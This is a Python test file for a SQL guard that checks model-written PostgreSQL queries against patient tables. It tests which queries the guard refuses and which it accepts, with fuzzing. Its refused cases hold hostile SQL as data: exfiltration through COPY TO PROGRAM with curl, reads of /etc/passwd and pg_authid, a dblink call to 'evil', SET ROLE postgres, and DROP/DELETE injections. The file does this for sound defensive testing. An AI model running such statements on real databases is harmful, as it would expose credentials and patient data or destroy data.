"""The SQL guard of `harmonizer ask`: what it refuses (and the one line saying why), what it lets
through (the tables read, the SQL that runs), and, from a small grammar, that allowed queries pass and
render stably while one disallowed function or table anywhere is refused (hypothesis). No database."""

from __future__ import annotations

import re

import pytest
import sqlglot
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlglot import exp

from harmonizer_pipeline.ask.guard import ALLOWED_FUNCTIONS, Checked, QueryRefused, check_query

READER = {"harmonized": {"patients", "patients_duplicates"}}
STEWARD = {**READER, "quality": {"rejected_rows", "profile_clinic_a"}, "keys": {"clinic_a"}, "ops": {"retention"}}
NOT_A_QUERY = "is not a query: only SELECT (with WITH) is run"


def not_readable(table: str) -> str:
    return f"table {table} is not one the question may read (allowed: harmonized.patients, harmonized.patients_duplicates)"


REFUSED = [
    # Not PostgreSQL, or not one statement (whatever comments and dollar quotes hide).
    ("SELECT * FROM (DELETE FROM harmonized.patients RETURNING *) d", "the SQL does not parse: Expecting ). Line 1, Col: 26."),
    ("SELECT 1 +* 2", "the SQL does not parse: Invalid expression / Unexpected token. Line 1, Col: 13."),
    ("SELECT 'unterminated", "the SQL does not parse: Error tokenizing 'SELECT 'unterminate'"),
    ("SELECT " + "(" * 500 + "1" + ")" * 500, "the SQL nests too deeply to check"),
    ("", "0 statements: only one query is run"),
    ("-- SELECT 1", "0 statements: only one query is run"),
    ("SELECT * FROM harmonized.patients; DROP TABLE x", "2 statements: only one query is run"),
    ("SELECT 1 -- a comment\n; DROP TABLE x", "2 statements: only one query is run"),
    ("SELECT 1 /* ; */ ; SELECT 2;;", "2 statements: only one query is run"),
    ("SELECT $q$ ; $q$; DROP TABLE x; $$", "the SQL does not parse: Error tokenizing 'SELECT $q$ ; $q$; DROP TABLE x; $'"),
    ("SELECT $q$ ; $q$; DROP TABLE x", "2 statements: only one query is run"),
    # Anything but a query.
    ("INSERT INTO harmonized.patients SELECT * FROM harmonized.patients", f"INSERT {NOT_A_QUERY}"),
    ("UPDATE harmonized.patients SET name = NULL", f"UPDATE {NOT_A_QUERY}"),
    ("DELETE FROM harmonized.patients", f"DELETE {NOT_A_QUERY}"),
    ("MERGE INTO harmonized.patients p USING harmonized.patients_duplicates d ON p.id = d.id WHEN MATCHED THEN DELETE", f"MERGE {NOT_A_QUERY}"),
    ("DROP TABLE harmonized.patients", f"DROP {NOT_A_QUERY}"),
    ("CREATE TABLE harmonized.x AS SELECT * FROM harmonized.patients", f"CREATE {NOT_A_QUERY}"),
    ("ALTER TABLE harmonized.patients ADD COLUMN x int", f"ALTER {NOT_A_QUERY}"),
    ("TRUNCATE harmonized.patients", f"TRUNCATE {NOT_A_QUERY}"),
    ("GRANT ALL ON harmonized.patients TO public", f"GRANT {NOT_A_QUERY}"),
    ("COPY harmonized.patients TO PROGRAM 'curl -d @- http://example.com'", f"COPY {NOT_A_QUERY}"),
    ("COPY (SELECT * FROM harmonized.patients) TO '/tmp/patients.csv'", f"COPY {NOT_A_QUERY}"),
    ("SET search_path = raw", f"SET {NOT_A_QUERY}"),
    ("SET ROLE postgres", f"SET {NOT_A_QUERY}"),
    ("RESET ROLE", f"RESET {NOT_A_QUERY}"),
    ("DO $$ BEGIN DELETE FROM harmonized.patients; END $$", f"DO {NOT_A_QUERY}"),
    ("CALL harmonized.cleanup()", f"CALL {NOT_A_QUERY}"),
    ("VACUUM harmonized.patients", f"VACUUM {NOT_A_QUERY}"),
    ("EXPLAIN ANALYZE DELETE FROM harmonized.patients", f"EXPLAIN {NOT_A_QUERY}"),
    ("LOAD '/tmp/evil.so'", f"LOAD {NOT_A_QUERY}"),
    ("LISTEN alerts", f"LISTEN {NOT_A_QUERY}"),
    ("NOTIFY alerts", f"NOTIFY {NOT_A_QUERY}"),
    ("PREPARE q AS SELECT 1", f"PREPARE {NOT_A_QUERY}"),
    ("EXECUTE q", f"EXECUTE {NOT_A_QUERY}"),
    ("BEGIN", f"BEGIN {NOT_A_QUERY}"),
    ("LOCK TABLE harmonized.patients", f"LOCK {NOT_A_QUERY}"),
    ("CHECKPOINT", f"CHECKPOINT {NOT_A_QUERY}"),
    ("WITH x AS (SELECT 1) DELETE FROM harmonized.patients", f"DELETE {NOT_A_QUERY}"),
    # Writing or locking inside a query.
    ("WITH gone AS (DELETE FROM harmonized.patients RETURNING *) SELECT * FROM gone", f"DELETE {NOT_A_QUERY}"),
    ("WITH x AS (INSERT INTO harmonized.patients (id) VALUES (1) RETURNING id) SELECT * FROM x", f"INSERT {NOT_A_QUERY}"),
    ("WITH x AS (SELECT 1), y AS (UPDATE harmonized.patients SET name = '' RETURNING id) SELECT * FROM y", f"UPDATE {NOT_A_QUERY}"),
    ("SELECT * INTO copied FROM harmonized.patients", "SELECT ... INTO creates a table: the query may only read"),
    ("SELECT * INTO TEMP copied FROM harmonized.patients", "SELECT ... INTO creates a table: the query may only read"),
    ("SELECT * FROM harmonized.patients FOR UPDATE", "FOR UPDATE locks rows: the query may only read"),
    ("SELECT * FROM harmonized.patients FOR SHARE", "FOR SHARE locks rows: the query may only read"),
    ("SELECT * FROM (SELECT * FROM harmonized.patients FOR NO KEY UPDATE NOWAIT) p", "FOR NO KEY UPDATE NOWAIT locks rows: the query may only read"),
    # Tables outside the allowed ones, however named and wherever they stand.
    ("SELECT * FROM raw.clinic_a", not_readable("raw.clinic_a")),
    ("SELECT * FROM validated.clinic_a", not_readable("validated.clinic_a")),
    ("SELECT * FROM quality.rejected_rows", not_readable("quality.rejected_rows")),
    ("SELECT * FROM pg_catalog.pg_authid", not_readable("pg_catalog.pg_authid")),
    ("SELECT * FROM information_schema.tables", not_readable("information_schema.tables")),
    ("SELECT * FROM pg_settings", not_readable("harmonized.pg_settings")),
    ("SELECT * FROM visits", not_readable("harmonized.visits")),
    ('SELECT * FROM "Patients"', not_readable("harmonized.Patients")),
    ("SELECT * FROM otherdb.harmonized.patients", not_readable("otherdb.harmonized.patients")),
    ("TABLE raw.clinic_a", not_readable("raw.clinic_a")),
    ("SELECT * FROM ONLY raw.clinic_a", not_readable("raw.clinic_a")),
    ("SELECT * FROM ONLY harmonized.patients", "ONLY harmonized.patients is not allowed: name the table alone"),
    ("SELECT id FROM harmonized.patients WHERE id IN (SELECT id FROM raw.clinic_a)", not_readable("raw.clinic_a")),
    ("SELECT id, (SELECT rolpassword FROM pg_authid LIMIT 1) FROM harmonized.patients", not_readable("harmonized.pg_authid")),
    ("SELECT * FROM harmonized.patients ORDER BY (SELECT max(id) FROM raw.clinic_a)", not_readable("raw.clinic_a")),
    ("SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM validated.clinic_a)) FROM harmonized.patients", not_readable("validated.clinic_a")),
    ("SELECT * FROM harmonized.patients p JOIN LATERAL (SELECT * FROM raw.clinic_a r WHERE r.id = p.id) r ON true", not_readable("raw.clinic_a")),
    ("SELECT city FROM harmonized.patients GROUP BY city HAVING count(*) > (SELECT count(*) FROM raw.clinic_b)", not_readable("raw.clinic_b")),
    ("SELECT id FROM harmonized.patients UNION SELECT id FROM raw.clinic_a", not_readable("raw.clinic_a")),
    ("VALUES ((SELECT max(id) FROM raw.clinic_a))", not_readable("raw.clinic_a")),
    # A CTE's name is a table where no CTE of that name is in scope.
    ("WITH pg_class AS (SELECT * FROM pg_class) SELECT * FROM pg_class", not_readable("harmonized.pg_class")),
    ("WITH b AS (SELECT * FROM a), a AS (SELECT * FROM harmonized.patients) SELECT * FROM b", not_readable("harmonized.a")),
    ("SELECT (WITH a AS (SELECT 1) SELECT * FROM a), (SELECT * FROM a)", not_readable("harmonized.a")),
    ("WITH raw AS (SELECT 1) SELECT * FROM raw.clinic_a", not_readable("raw.clinic_a")),
    # Functions not on the allow-list, in any clause.
    ("SELECT pg_read_file('/etc/passwd')", "function pg_read_file is not allowed"),
    ("SELECT pg_read_binary_file('/etc/passwd')", "function pg_read_binary_file is not allowed"),
    ("SELECT * FROM pg_ls_dir('.') AS f", "function pg_ls_dir is not allowed"),
    ("SELECT (pg_stat_file('postgresql.conf')).size", "function pg_stat_file is not allowed"),
    ("SELECT lo_import('/etc/passwd')", "function lo_import is not allowed"),
    ("SELECT lo_export(16385, '/tmp/x')", "function lo_export is not allowed"),
    ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "function dblink is not allowed"),
    ("SELECT set_config('statement_timeout', '0', false)", "function set_config is not allowed"),
    ("SELECT current_setting('data_directory')", "function current_setting is not allowed"),
    ("SELECT pg_sleep(10)", "function pg_sleep is not allowed"),
    ("SELECT id FROM harmonized.patients ORDER BY pg_sleep_for('1 minute')", "function pg_sleep_for is not allowed"),
    ("SELECT pg_terminate_backend(pid) FROM harmonized.patients", "function pg_terminate_backend is not allowed"),
    ("SELECT pg_cancel_backend(1)", "function pg_cancel_backend is not allowed"),
    ("SELECT query_to_xml('SELECT * FROM raw.clinic_a', true, true, '')", "function query_to_xml is not allowed"),
    ("SELECT xmlconcat(name) FROM harmonized.patients", "function xmlconcat is not allowed"),
    ("SELECT txid_current()", "function txid_current is not allowed"),
    ("SELECT nextval('harmonized.patients_id_seq')", "function nextval is not allowed"),
    ("SELECT setval('harmonized.patients_id_seq', 1)", "function setval is not allowed"),
    ("SELECT pg_advisory_lock(1)", "function pg_advisory_lock is not allowed"),
    ("SELECT version()", "function version is not allowed"),
    ("SELECT current_user", "function current_user is not allowed"),
    ("SELECT session_user", "function session_user is not allowed"),
    ("SELECT user", "function user is not allowed"),
    ("SELECT current_schema", "function current_schema is not allowed"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "function pg_catalog.pg_read_file is not allowed"),
    ("SELECT pg_catalog.lower(name) FROM harmonized.patients", "function pg_catalog.lower is not allowed"),
    ('SELECT "PG_SLEEP"(1)', "function PG_SLEEP is not allowed"),
    ("SELECT * FROM generate_series(1, 10) AS g", "function generate_series is not allowed"),
    ("SELECT unnest(ARRAY[1, 2])", "function unnest is not allowed"),
    (
        "SELECT * FROM harmonized.patients p CROSS JOIN LATERAL lower(p.name) AS l",
        "a function after LATERAL is not allowed: LATERAL takes a subquery (SELECT ...)",
    ),
    ("SELECT max(CASE WHEN id > 0 THEN pg_sleep(1) END) FROM harmonized.patients", "function pg_sleep is not allowed"),
    ("SELECT city FROM harmonized.patients GROUP BY city, pg_backend_pid()", "function pg_backend_pid is not allowed"),
    ("SELECT rank() OVER (PARTITION BY inet_server_addr()) FROM harmonized.patients", "function inet_server_addr is not allowed"),
    ("VALUES (pg_postmaster_start_time())", "function pg_postmaster_start_time is not allowed"),
    ("SELECT 1 OPERATOR(pg_catalog.+) 2", "OPERATOR(pg_catalog.+) is not allowed: write the operator alone"),
    ("SELECT tags ?| ARRAY['a'] FROM harmonized.patients", "operator ?| is not allowed"),
    ("SELECT 'pg_authid'::regclass", "a cast to regclass is not allowed"),
    ("SELECT regproc 'pg_sleep'", "a cast to regproc is not allowed"),
    ("SELECT '<a/>'::xml", "a cast to xml is not allowed"),
    ("SELECT name::harmonized.mood FROM harmonized.patients", "a cast to harmonized.mood is not allowed"),
    (
        "SELECT lag(name) IGNORE NULLS OVER (ORDER BY id) FROM harmonized.patients",
        "the query cannot be written for PostgreSQL as it is: PostgreSQL does not support IGNORE NULLS.",
    ),
]


@pytest.mark.parametrize(("sql", "reason"), REFUSED)
def test_refuses_with_the_reason(sql: str, reason: str) -> None:
    with pytest.raises(QueryRefused) as refused:
        check_query(sql, READER)
    assert str(refused.value) == reason


ACCEPTED = [
    (
        "SELECT p.id, d.duplicate_of FROM patients p JOIN harmonized.patients_duplicates d ON d.id = p.id",
        "SELECT p.id, d.duplicate_of FROM harmonized.patients AS p JOIN harmonized.patients_duplicates AS d ON d.id = p.id",
        [("harmonized", "patients"), ("harmonized", "patients_duplicates")],
    ),
    (
        "WITH recent AS (SELECT * FROM patients WHERE born > '2000-01-01'), counted AS (SELECT city, count(*) AS n FROM recent GROUP BY city) "
        "SELECT * FROM counted ORDER BY n DESC LIMIT 5",
        "WITH recent AS (SELECT * FROM harmonized.patients WHERE born > '2000-01-01'), counted AS (SELECT city, COUNT(*) AS n FROM recent GROUP BY city) "
        "SELECT * FROM counted ORDER BY n DESC LIMIT 5",
        [("harmonized", "patients")],
    ),
    (
        "SELECT id, row_number() OVER (PARTITION BY city ORDER BY born), lag(name) OVER w FROM harmonized.patients WINDOW w AS (ORDER BY id)",
        "SELECT id, ROW_NUMBER() OVER (PARTITION BY city ORDER BY born), LAG(name) OVER w FROM harmonized.patients WINDOW w AS (ORDER BY id)",
        [("harmonized", "patients")],
    ),
    (
        "SELECT date_trunc('month', born) AS month, count(*) FROM patients GROUP BY 1 ORDER BY 1",
        "SELECT DATE_TRUNC('MONTH', born) AS month, COUNT(*) FROM harmonized.patients GROUP BY 1 ORDER BY 1",
        [("harmonized", "patients")],
    ),
    (
        "SELECT CASE WHEN age(born) > interval '65 years' THEN 'senior' ELSE 'adult' END, born::date, CAST(id AS text) FROM patients",
        "SELECT CASE WHEN age(born) > INTERVAL '65 YEARS' THEN 'senior' ELSE 'adult' END, CAST(born AS DATE), CAST(id AS TEXT) FROM harmonized.patients",
        [("harmonized", "patients")],
    ),
    (
        "SELECT name FROM patients WHERE id IN (SELECT duplicate_of FROM patients_duplicates) AND EXISTS (SELECT 1 FROM patients_duplicates)",
        "SELECT name FROM harmonized.patients WHERE id IN (SELECT duplicate_of FROM harmonized.patients_duplicates) "
        "AND EXISTS(SELECT 1 FROM harmonized.patients_duplicates)",
        [("harmonized", "patients"), ("harmonized", "patients_duplicates")],
    ),
    (
        "SELECT id FROM harmonized.patients UNION ALL SELECT id FROM harmonized.patients_duplicates",
        "SELECT id FROM harmonized.patients UNION ALL SELECT id FROM harmonized.patients_duplicates",
        [("harmonized", "patients"), ("harmonized", "patients_duplicates")],
    ),
    (
        'SELECT "P"."Full Name", p."id" FROM Harmonized."patients" AS "P", harmonized.PATIENTS p',
        'SELECT "P"."Full Name", p."id" FROM Harmonized."patients" AS "P", harmonized.PATIENTS AS p',
        [("harmonized", "patients")],
    ),
    (
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT i FROM n",
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT i FROM n",
        [],
    ),
    (
        "SELECT v.label, count(p.id) FROM (VALUES ('a', 1), ('b', 2)) AS v(label, n) LEFT JOIN patients p ON p.id = v.n GROUP BY v.label",
        "SELECT v.label, COUNT(p.id) FROM (VALUES ('a', 1), ('b', 2)) AS v(label, n) LEFT JOIN harmonized.patients AS p ON p.id = v.n GROUP BY v.label",
        [("harmonized", "patients")],
    ),
    ("VALUES (1, 'one'), (2, 'two')", "VALUES (1, 'one'), (2, 'two')", []),
    (
        "SELECT p.id, s.n FROM patients p, LATERAL (SELECT count(*) AS n FROM patients_duplicates d WHERE d.duplicate_of = p.id) s",
        "SELECT p.id, s.n FROM harmonized.patients AS p, LATERAL (SELECT COUNT(*) AS n FROM harmonized.patients_duplicates AS d WHERE d.duplicate_of = p.id) AS s",
        [("harmonized", "patients"), ("harmonized", "patients_duplicates")],
    ),
    # What comments and dollar quotes hold is not SQL: comments go, a dollar-quoted string stays a string.
    (
        "SELECT $$; DROP TABLE x; $$ AS s, 'it''s' -- */ DROP TABLE x; /*\nFROM patients /* ; DELETE FROM patients */",
        "SELECT '; DROP TABLE x; ' AS s, 'it''s' FROM harmonized.patients",
        [("harmonized", "patients")],
    ),
]


@pytest.mark.parametrize(("sql", "written", "tables"), ACCEPTED)
def test_accepts_a_query_and_writes_it_with_its_tables_qualified(sql: str, written: str, tables: list[tuple[str, str]]) -> None:
    assert check_query(sql, READER) == Checked(written, tables)


def test_a_quoted_name_is_the_table_of_exactly_that_name() -> None:
    # The reader may not read "Patients" (REFUSED): another table than patients, where one has it.
    checked = check_query('SELECT * FROM "Patients" JOIN "patients" USING (id)', {"harmonized": {"Patients", "patients"}})
    assert checked == Checked(
        'SELECT * FROM harmonized."Patients" JOIN harmonized."patients" USING (id)', [("harmonized", "Patients"), ("harmonized", "patients")]
    )


def test_the_steward_reads_more_schemas_than_the_reader() -> None:
    sql = "SELECT r.reason, count(*) FROM quality.rejected_rows r JOIN patients p ON p.id = r.row_id GROUP BY r.reason"
    assert check_query(sql, STEWARD).tables == [("harmonized", "patients"), ("quality", "rejected_rows")]
    with pytest.raises(QueryRefused, match="^table quality.rejected_rows is not one the question may read"):
        check_query(sql, READER)
    assert check_query("SELECT * FROM clinic_a", STEWARD, default_schema="keys").sql == "SELECT * FROM keys.clinic_a"


# A call of each allowed function (or operator), as a model would write it.
CALLS = {
    "count": "count(DISTINCT id)",
    "sum": "sum(id)",
    "avg": "avg(id)",
    "min": "min(born)",
    "max": "max(born)",
    "stddev": "stddev(id)",
    "stddev_pop": "stddev_pop(id)",
    "stddev_samp": "stddev_samp(id)",
    "variance": "variance(id)",
    "var_samp": "var_samp(id)",
    "var_pop": "var_pop(id)",
    "percentile_cont": "percentile_cont(0.5) WITHIN GROUP (ORDER BY id)",
    "percentile_disc": "percentile_disc(0.5) WITHIN GROUP (ORDER BY id)",
    "mode": "mode() WITHIN GROUP (ORDER BY city)",
    "string_agg": "string_agg(name, ', ' ORDER BY name)",
    "array_agg": "array_agg(id)",
    "bool_and": "bool_and(id > 0)",
    "bool_or": "bool_or(id > 0)",
    "every": "every(id > 0)",
    "grouping": "grouping(city)",
    "row_number": "row_number() OVER ()",
    "rank": "rank() OVER (ORDER BY id)",
    "dense_rank": "dense_rank() OVER (ORDER BY id)",
    "ntile": "ntile(4) OVER (ORDER BY id)",
    "lag": "lag(id, 1, 0) OVER (ORDER BY id)",
    "lead": "lead(id) OVER (ORDER BY id)",
    "first_value": "first_value(id) OVER (ORDER BY id)",
    "last_value": "last_value(id) OVER (ORDER BY id)",
    "nth_value": "nth_value(id, 2) OVER (ORDER BY id)",
    "percent_rank": "percent_rank() OVER (ORDER BY id)",
    "cume_dist": "cume_dist() OVER (ORDER BY id)",
    "lower": "lower(name)",
    "upper": "upper(name)",
    "initcap": "initcap(name)",
    "length": "length(name)",
    "char_length": "char_length(name)",
    "trim": "trim(BOTH ' ' FROM name)",
    "btrim": "btrim(name, ' ')",
    "ltrim": "ltrim(name)",
    "rtrim": "rtrim(name, ' ')",
    "substring": "substring(name FROM 1 FOR 3)",
    "substr": "substr(name, 2)",
    "left": "left(name, 1)",
    "right": "right(name, 1)",
    "replace": "replace(name, 'a', 'b')",
    "split_part": "split_part(name, ' ', 1)",
    "concat": "concat(name, city)",
    "concat_ws": "concat_ws(', ', name, city)",
    "position": "position('a' IN name)",
    "strpos": "strpos(name, 'a')",
    "starts_with": "starts_with(name, 'A')",
    "regexp_replace": "regexp_replace(name, '\\s+', ' ', 'g')",
    "regexp_match": "regexp_match(name, '^(\\w+)')",
    "regexp_matches": "regexp_matches(name, '\\w+', 'g')",
    "lpad": "lpad(name, 10, '.')",
    "rpad": "rpad(name, 10)",
    "reverse": "reverse(name)",
    "format": "format('%s (%s)', name, city)",
    "to_char": "to_char(born, 'YYYY-MM')",
    "abs": "abs(id)",
    "round": "round(id / 3.0, 2)",
    "ceil": "ceil(id / 3.0)",
    "ceiling": "ceiling(id / 3.0)",
    "floor": "floor(id / 3.0)",
    "trunc": "trunc(id / 3.0)",
    "sqrt": "sqrt(id)",
    "power": "power(id, 2)",
    "^": "id ^ 2",
    "mod": "mod(id, 7)",
    "greatest": "greatest(id, 1)",
    "least": "least(id, 1)",
    "sign": "sign(id)",
    "exp": "exp(1)",
    "ln": "ln(id)",
    "log": "log(10, id)",
    "width_bucket": "width_bucket(id, 0, 100, 10)",
    "now": "now()",
    "current_timestamp": "current_timestamp",
    "current_date": "current_date - born",
    "date_trunc": "date_trunc('year', born)",
    "date_part": "date_part('year', born)",
    "extract": "extract(YEAR FROM born)",
    "age": "age(born)",
    "make_date": "make_date(2024, 1, 31)",
    "to_date": "to_date('2024-01-31', 'YYYY-MM-DD')",
    "to_timestamp": "to_timestamp('2024', 'YYYY') - to_timestamp(0)",
    "justify_days": "justify_days(interval '35 days')",
    "justify_hours": "justify_hours(interval '27 hours')",
    "justify_interval": "justify_interval(interval '1 mon -1 hour')",
    "coalesce": "coalesce(name, '')",
    "nullif": "nullif(name, '')",
    "case": "CASE city WHEN 'Oslo' THEN 1 ELSE 0 END",
    "cast": "CAST(id AS bigint)",
    "::": "born::timestamptz",
    "jsonb_extract_path_text": "jsonb_extract_path_text(extra, 'a', 'b')",
    "->": "extra -> 'a'",
    "->>": "extra ->> 'a'",
    "#>": "extra #> '{a,b}'",
    "#>>": "extra #>> '{a,b}'",
    "?": "extra ? 'a'",
    "@>": "extra @> '{\"a\": 1}'",
    "<@": "extra <@ '{\"a\": 1}'",
    "&&": "ARRAY[id] && ARRAY[1, 2]",
    "and": "id > 0 AND id < 10",
    "or": "id > 0 OR id < 10",
    "~": "name ~ '^A'",
    "~*": "name ~* '^a'",
    "array": "ARRAY[id, 1]",
    "exists": "EXISTS (SELECT 1 FROM harmonized.patients_duplicates)",
    "collate": 'name COLLATE "C"',
}


def test_each_allowed_function_has_a_call_here() -> None:
    assert set(CALLS) == set(ALLOWED_FUNCTIONS)


@pytest.mark.parametrize("name", sorted(CALLS))
def test_each_allowed_function_parses_to_its_class_and_is_accepted(name: str) -> None:
    sql = f"SELECT {CALLS[name]} FROM harmonized.patients GROUP BY city"
    found = {(type(node), node.name.lower() if isinstance(node, exp.Anonymous) else "") for node in sqlglot.parse_one(sql, read="postgres").walk()}
    assert {(cls, name if cls is exp.Anonymous else "") for cls in ALLOWED_FUNCTIONS[name]} <= found
    checked = check_query(sql, READER)
    assert check_query(checked.sql, READER) == checked


# A small grammar of queries over the reader's tables, with a mark for each column or value (LEAF) and
# table (TABLE) the test fills in; one of them may be something the question may not call or read.
LEAF, TABLE = "\N{CURRENCY SIGN}", "\N{SECTION SIGN}"
COLUMNS = ["id", "name", "city", "born", "t.id", "'Oslo'", "42", "NULL", "interval '1 day'"]
TABLES = ["patients", "harmonized.patients", "patients_duplicates", "harmonized.PATIENTS_DUPLICATES"]
SHAPES = [
    "lower({})",
    "coalesce({}, {})",
    "nullif({}, {})",
    "greatest({}, {}, {})",
    "round({})",
    "abs({}) + {}",
    "{} || {}",
    "{}::text",
    "CAST({} AS date)",
    "date_trunc('month', {})",
    "extract(YEAR FROM {})",
    "age({})",
    "CASE WHEN {} IS NULL THEN {} ELSE {} END",
    "{} = {} AND NOT {} > 1",
    "{} IN ({}, {})",
    "{} ->> 'a'",
    "({})",
    f"(SELECT max({{}}) FROM {TABLE} WHERE {{}} > {{}})",
    f"{{}} IN (SELECT {{}} FROM {TABLE})",
    f"EXISTS (SELECT 1 FROM {TABLE} AS s WHERE s.id = {{}})",
]


def operand(expression: str) -> str:
    """The expression in parentheses unless a mark, to stand anywhere in a shape."""
    return expression if expression == LEAF else f"({expression})"


EXPRESSIONS = st.recursive(
    st.just(LEAF),
    lambda inner: st.builds(lambda shape, parts: shape.format(*map(operand, parts)), st.sampled_from(SHAPES), st.lists(inner, min_size=3, max_size=3)),
    max_leaves=8,
)
AGGREGATES = ["count({})", "max({})", "string_agg({}::text, ',')", "row_number() OVER (ORDER BY {})", "{}"]
# What the question may not call or read, and the guard's reason, as leaves or tables.
HOSTILE_LEAVES = [
    ("pg_sleep(1)", "function pg_sleep is not allowed"),
    ("pg_read_file('/etc/passwd')", "function pg_read_file is not allowed"),
    ("set_config('role', 'postgres', true)", "function set_config is not allowed"),
    ("pg_catalog.upper(name)", "function pg_catalog.upper is not allowed"),
    ("lo_import('/etc/passwd')", "function lo_import is not allowed"),
    ("(SELECT max(id) FROM raw.clinic_a)", not_readable("raw.clinic_a")),
    ("(SELECT count(*) FROM pg_catalog.pg_authid)", not_readable("pg_catalog.pg_authid")),
]
HOSTILE_TABLES = [("raw.clinic_a", not_readable("raw.clinic_a")), ("pg_shadow", not_readable("harmonized.pg_shadow"))]


@st.composite
def queries(draw: st.DrawFn) -> str:
    """A query with LEAF and TABLE marks: a select list, WHERE, GROUP BY, ORDER BY, a CTE, a UNION, each maybe."""
    columns = ", ".join(draw(st.sampled_from(AGGREGATES)).format(operand(e)) for e in draw(st.lists(EXPRESSIONS, min_size=1, max_size=3)))
    sql = f"SELECT {columns} FROM {TABLE} AS t"
    for clause in ("WHERE", "GROUP BY", "ORDER BY"):
        if draw(st.booleans()):
            sql += f" {clause} {draw(EXPRESSIONS)}"
    if draw(st.booleans()):
        sql = f"WITH c AS ({sql}) SELECT * FROM c"
    if draw(st.booleans()):
        sql += f" UNION SELECT {draw(EXPRESSIONS)} FROM {TABLE}"
    return sql


@st.composite
def filled(draw: st.DrawFn, hostile: bool) -> tuple[str, set[tuple[str, str]], str | None]:
    """A query from the grammar: its SQL, the tables it reads, and, when `hostile`, the reason it is refused."""
    parts = re.split(f"([{LEAF}{TABLE}])", draw(queries()))
    marks = [i for i, part in enumerate(parts) if part in (LEAF, TABLE)]
    injected = draw(st.sampled_from(marks)) if hostile else None
    tables, reason = set(), None
    for i in marks:
        if i == injected:
            parts[i], reason = draw(st.sampled_from(HOSTILE_LEAVES if parts[i] == LEAF else HOSTILE_TABLES))
        elif parts[i] == LEAF:
            parts[i] = draw(st.sampled_from(COLUMNS))
        else:
            parts[i] = draw(st.sampled_from(TABLES))
            tables.add(("harmonized", parts[i].removeprefix("harmonized.").lower()))
    return "".join(parts), tables, reason


@settings(max_examples=150, deadline=None)
@given(filled(hostile=False))
def test_queries_of_allowed_tables_and_functions_pass_and_write_back_stably(query: tuple[str, set[tuple[str, str]], str | None]) -> None:
    sql, tables, _ = query
    checked = check_query(sql, READER)
    assert set(checked.tables) == tables
    assert check_query(checked.sql, READER) == checked


@settings(max_examples=150, deadline=None)
@given(filled(hostile=True))
def test_one_disallowed_function_or_table_anywhere_is_refused(query: tuple[str, set[tuple[str, str]], str | None]) -> None:
    sql, _, reason = query
    with pytest.raises(QueryRefused) as refused:
        check_query(sql, READER)
    assert str(refused.value) == reason
